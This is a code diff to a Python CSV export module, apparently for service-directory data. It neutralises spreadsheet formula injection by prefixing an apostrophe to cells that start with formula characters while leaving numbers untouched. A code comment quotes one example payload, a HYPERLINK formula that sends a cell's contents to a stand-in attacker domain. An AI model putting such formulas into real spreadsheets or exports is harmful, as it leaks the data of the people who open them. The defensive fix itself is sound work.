@@ -9,6 +9,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import json
+import re
 import shutil
 from collections.abc import Iterator
 from pathlib import Path
@@ -16,9 +17,17 @@ from pathlib import Path
 from ..schema import Nested, Schema, Table, load_schema
 from ..validate.validator import Result
 
+# What makes a spreadsheet (Excel, LibreOffice, Google Sheets) read a cell as a formula, e.g.
+# =HYPERLINK("https://evil.invalid/?d="&A2,"x") in a name. Such text gets a leading apostrophe in the CSV, which a
+# spreadsheet shows as text and hides; numbers and phone numbers ("+45 70 10 20 30", "-3") stay as they are, having
+# no function to call. The JSON formats (HSDS, GeoJSON, the feeds) keep every value exactly as written.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+_NUMBER_LIKE = re.compile(r"[+-]?[0-9 ().,/-]*")
+
 
 def cell(value: object) -> str:
-    """One value as Table Schema's default CSV formats read it back."""
+    """One value as Table Schema's default CSV formats read it back; text that a spreadsheet would run as a
+    formula is made inert (see FORMULA_START)."""
     if value is None:
         return ""
     if isinstance(value, bool):
@@ -27,6 +36,8 @@ def cell(value: object) -> str:
         return value.isoformat()
     if isinstance(value, float):
         return repr(value)
+    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER_LIKE.fullmatch(value):
+        return "'" + value
     return str(value)
 
 
